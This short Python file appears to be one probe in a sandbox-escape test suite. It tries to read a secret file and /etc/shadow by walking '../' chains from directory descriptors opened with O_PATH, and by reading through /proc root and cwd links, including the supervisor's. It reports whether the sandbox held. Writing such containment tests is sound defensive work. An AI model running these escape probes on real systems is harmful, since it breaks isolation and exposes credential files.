"""Out of the readable folders by descriptors and dots: openat, O_PATH, links of /proc."""

# stop: ok

import contextlib
import os

import world


def attack():
    for start in (os.path.dirname(os.__file__), "/", "."):
        for flags in (os.O_RDONLY, os.O_PATH):
            with contextlib.suppress(OSError):
                folder = os.open(start, flags | os.O_DIRECTORY)
                for wanted in ("../" * 12 + world.secret_file[1:], "../" * 12 + "etc/shadow", world.secret_file[1:]):
                    with contextlib.suppress(OSError):
                        if os.read(os.open(wanted, os.O_RDONLY, dir_fd=folder), 1):
                            return f"BROKE: read {wanted}"
    for link in ("self/root", "self/cwd", "thread-self/root", "1/root", f"{world.supervisor}/root"):
        with contextlib.suppress(OSError):
            if open(f"/proc/{link}{world.secret_file}").read():
                return f"BROKE: read through {link}"
    return "held"
